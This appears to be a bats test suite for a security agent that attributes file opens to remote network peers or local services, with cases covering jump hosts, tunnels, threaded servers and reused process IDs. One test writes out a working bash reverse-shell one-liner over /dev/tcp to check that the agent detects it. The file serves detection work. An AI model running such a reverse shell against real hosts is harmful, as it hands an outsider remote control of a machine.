#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
#
# Goal: whoever acts for a connected peer is remote, with that peer, whatever became of the process
# in between; a server that reads a recording itself is a service. A connection that begins and ends
# on the hub leads to whoever is behind the process that made it.
#
# The peer sits in a network namespace of its own, the "office". Its names and addresses are of this
# run alone: others may be under way.

load host.bash

setup_file() {
	export NET=$((RANDOM % 250 + 4))
	export HUB=10.77.$NET.1 OFFICE=10.77.$NET.2 OFFICE_NS=cw-office-$NET

	((EUID == 0)) || return 0
	ip netns add "$OFFICE_NS"
	ip link add "cw-hub-$NET" type veth peer name office netns "$OFFICE_NS"
	ip address add "$HUB/24" dev "cw-hub-$NET"
	ip link set "cw-hub-$NET" up
	ip -n "$OFFICE_NS" address add "$OFFICE/24" dev office
	ip -n "$OFFICE_NS" link set office up
	ip -n "$OFFICE_NS" link set lo up
}

teardown_file() {
	ip netns delete "$OFFICE_NS" 2>/dev/null || true
	ip link delete "cw-hub-$NET" 2>/dev/null || true
}

setup() {
	host_setup
	CLIP=$REC/clip
	echo picture >"$CLIP"
}

teardown() {
	[[ -z ${PID_MAX:-} ]] || echo "$PID_MAX" >/proc/sys/kernel/pid_max
	host_teardown
}

# serve KIND COMMAND…: sets PORT and SERVER.
serve() {
	background env ACTOR_ADDRESS="$HUB" "$ACTOR" serve "$@"
	SERVER=$BG_PID
	PORT=$(first_line "$BG_OUT")
}

# serve_inside KIND COMMAND…: the same for those on the hub alone.
serve_inside() {
	background "$ACTOR" serve "$@"
	SERVER=$BG_PID
	INSIDE=$(first_line "$BG_OUT")
}

# serve_office LINE: somebody there waits for a call and sends LINE; sets PORT.
serve_office() {
	background in_office "$OFFICE" "$ACTOR" serve send "$1"
	PORT=$(first_line "$BG_OUT")
}

in_office() {
	ip netns exec "$OFFICE_NS" env ACTOR_ADDRESS="$1" "${@:2}"
}

# call [stay]: a client in the office, sets PEER.
call() {
	background in_office "$HUB" "$ACTOR" connect "$PORT" "$@"
	PEER=$OFFICE:$(first_line "$BG_OUT")
}

hopped_by() {
	is ".origin.hop.exe == \"$ACTOR\" and .origin.hop.login_uid == null and
		(.origin.hop.pid | type == \"number\")"
}

is_remote() {
	is ".origin.type == \"remote\" and .origin.peer == \"$PEER\" and
		.origin.local_port == $PORT and .origin.via == \"$ACTOR\" and
		.origin.outbound == null and .verdict.class == \"remote\" and
		.verdict.severity == \"high\""
}

@test "a server that runs a shell for a connection: remote, with peer, port and program" {
	host_start
	serve fork sh -c "cat $CLIP; :"
	call
	expect '.kind == "open" and .process.comm == "cat"'
	is_remote
	is '.origin.seeded == false'
	is ".process.ancestors | map(.pid) | contains([$SERVER])"
}

@test "a shell on the connection itself, as inetd would start it" {
	host_start
	serve stdio sh -c "cat $CLIP; :"
	call
	expect '.kind == "open" and .process.comm == "cat"'
	is_remote
}

@test "through setsid, nohup, a double fork and env: still remote" {
	host_start
	serve fork bash -c "setsid nohup env A=b bash -c '(cat $CLIP &) ; :' >/dev/null 2>&1 & exit"
	call
	expect '.kind == "open" and .process.comm == "cat"'
	is_remote
}

@test "a thread of a threaded server that spawns for a request: remote" {
	host_start
	serve thread cat "$CLIP"
	call
	expect '.kind == "open" and .process.comm == "cat"'
	is_remote
	# The next one has its own peer, also while another stays connected.
	call stay
	expect ".kind == \"open\" and .process.comm == \"cat\" and .origin.peer == \"$PEER\""
	call
	expect ".kind == \"open\" and .process.comm == \"cat\" and .origin.peer == \"$PEER\""
}

@test "a server that reads the recording itself: service" {
	host_start
	serve http "$CLIP"
	call
	expect ".kind == \"open\" and .process.pid == $SERVER"
	is '.origin.type == "service" and .origin.peer == null and .verdict.class == "service"'
}

@test "a server with an old silent connection that starts a child: service" {
	host_start
	serve idle cat "$CLIP"
	call stay
	expect '.kind == "open" and .process.comm == "cat"' 20
	is '.origin.type == "service" and .origin.peer == null'
}

@test "a reverse shell: remote and outbound, with its peer" {
	host_start
	serve_office "cat $CLIP; exit"
	background bash -c "bash -i >& /dev/tcp/$OFFICE/$PORT 0>&1"
	expect '.kind == "open" and .process.comm == "cat"'
	is ".origin.type == \"remote\" and .origin.peer == \"$OFFICE:$PORT\""
	is '.origin.outbound == true and .verdict.class == "remote"'
}

# there_before [ARGUMENT…]
there_before() {
	mkfifo "$W/go"
	serve stdio sh -c "read line <$W/go; cat $CLIP"
	call
	eventually pgrep -P "$SERVER" sh
	host_start "$@"
	echo >"$W/go"
	expect '.kind == "open" and .process.comm == "cat"'
	is ".origin.type == \"remote\" and .origin.peer == \"$PEER\" and .origin.seeded == true"
	is ".origin.local_port == $PORT and .origin.via == \"$ACTOR\""
}

@test "a session that was there before the agent: remote, seeded" {
	there_before
}

@test "a session that was there before the agent, found by /proc: remote, seeded" {
	hide_types
	there_before --btf "$TYPES"
}

@test "nobody connected: service, and not seeded" {
	host_start
	cat "$CLIP"
	expect '.kind == "open" and .process.comm == "cat"'
	is '.origin.type == "service" and .origin.peer == null and .origin.seeded == false'
}

@test "a jump host: what connects on over loopback leads to the peer behind it" {
	host_start
	serve_inside fork sh -c "cat $CLIP; :"
	serve fork env -u ACTOR_ADDRESS "$ACTOR" connect "$INSIDE"
	call
	expect '.kind == "open" and .process.comm == "cat"'
	is_remote
	hopped_by
}

@test "two hops over loopback: the first peer, and the first process" {
	host_start
	serve_inside stdio sh -c "cat $CLIP; :"
	serve_inside fork "$ACTOR" connect "$INSIDE"
	serve fork env -u ACTOR_ADDRESS "$ACTOR" connect "$INSIDE"
	call
	expect '.kind == "open" and .process.comm == "cat"'
	is_remote
	hopped_by
	is '.process.ancestors | map(.pid) | contains(['"$BG_PID"']) | not'
}

@test "a proxy whose thread serves a peer: what it reaches is that peer's" {
	host_start
	serve_inside fork cat "$CLIP"
	serve thread env -u ACTOR_ADDRESS "$ACTOR" connect "$INSIDE"
	call
	expect '.kind == "open" and .process.comm == "cat"'
	is_remote
	hopped_by
}

@test "a tunnel that was opened from the hub: remote and outbound, with its far end" {
	host_start
	serve_inside fork cat "$CLIP"
	serve_office go
	background env ACTOR_ADDRESS="$OFFICE" "$ACTOR" tunnel "$PORT" "$INSIDE"
	expect '.kind == "open" and .process.comm == "cat"'
	is ".origin.type == \"remote\" and .origin.peer == \"$OFFICE:$PORT\""
	is '.origin.outbound == true and .verdict.class == "remote"'
	hopped_by
}

@test "a service that connects to another over loopback: nobody is remote" {
	host_start
	serve_inside fork cat "$CLIP"
	background "$ACTOR" connect "$INSIDE"
	expect '.kind == "open" and .process.comm == "cat"'
	is '.origin.type == "service" and .verdict.class == "service"'
	is '.origin.peer | startswith("127.0.0.1:")'
	hopped_by
}

@test "a jump that was there before the agent leads to the peer, too" {
	mkfifo "$W/go"
	serve_inside stdio sh -c "read line <$W/go; cat $CLIP"
	serve stdio env -u ACTOR_ADDRESS "$ACTOR" connect "$INSIDE"
	call
	eventually pgrep -P "$(pgrep -f "serve stdio sh -c")" sh
	host_start
	echo >"$W/go"
	expect '.kind == "open" and .process.comm == "cat"'
	is_remote
	is '.origin.seeded == true'
	hopped_by
}

# map NAME: what is in that map of the agent's, as JSON.
map() {
	local id

	while read -r id; do
		[[ $(bpftool -j map show id "$id" | jq -r .name) != "$1" ]] ||
			{ bpftool -j map dump id "$id"; return; }
	done < <(sed -n 's/^map_id:[[:space:]]*//p' "/proc/$CW_PID"/fdinfo/* | sort -un)
	return 1
}

# map_gone NAME WHERE: of the processes in that map, at that place of an entry, those that are not.
map_gone() {
	local tgid

	map "$1" | jq ".[].formatted$2" | sort -u | while read -r tgid; do
		[[ -e /proc/$tgid ]] || echo "$tgid"
	done
}

# None stays in a map, and neither do its opens and descriptors. Who ends just now is there the first
# time.
maps_are_clean() {
	local name where gone stale

	while read -r name where; do
		gone=$(map_gone "$name" "$where")
		stale=$(comm -12 <(echo "$gone") <(map_gone "$name" "$where"))
		[[ -z $stale ]] || { echo "$name has what is gone: $stale"; return 1; }
	done <<-END
		tasks .key
		touched .key
		dumping .key
		opens .value.opener_tgid
		fds .key.tgid
	END
}

resident() {
	awk '$1 == "VmRSS:" { print $2 }' "/proc/$CW_PID/status"
}

# crowds FIRST: two crowds at once, a remote one and one of a service; each N / EVERY accesses.
crowds() {
	local remote

	serve stdio "$ACTOR" crowd "$1" "$every" "$CLIP"
	call stay
	remote=$BG_PID
	"$ACTOR" crowd "$1" "$every" "$CLIP"
	tail -f -s 0.1 --pid="$remote" /dev/null
	"$ACTOR" open "$CLIP" last
	expect '.kind == "close" and .process.argv[3] == "last"' 60
}

# $CROWD processes in each of two crowds, after a tenth of them that fills what has a bound; every
# $EVERY-th gets at the recording. "scripts/soak --processes" does it with two millions.
@test "process numbers that come back: no origin is stale, and nothing grows" {
	local crowd=${CROWD:-10000} every=${EVERY:-50} begin=$SECONDS first last
	host_start
	# Few numbers, so that each is soon of the one and soon of the other crowd.
	PID_MAX=$(</proc/sys/kernel/pid_max)
	echo $(($(ps -eL --no-headers | wc -l) + 2000)) >/proc/sys/kernel/pid_max
	crowds $((crowd / 10))
	first=$(resident)
	mark_events
	crowds "$crowd"
	last=$(resident)
	count_is $((crowd / every)) ".kind == \"open\" and .origin.peer == \"$PEER\" and
		(.process.ancestors | any(.pid == $SERVER))"
	count_is $((crowd / every + 1)) ".kind == \"open\" and .origin.type == \"service\" and
		.origin.peer == null and (.process.ancestors | all(.pid != $SERVER))"
	count_is $((crowd * 2 / every + 1)) '.kind == "open"'
	count_is 0 '.kind == "gap"'
	maps_are_clean
	echo "# $((crowd * 22 / 10)) processes in $((SECONDS - begin)) s; resident $first KiB, then $last KiB" >&3
	((last <= first + first / 20 + 256))
}
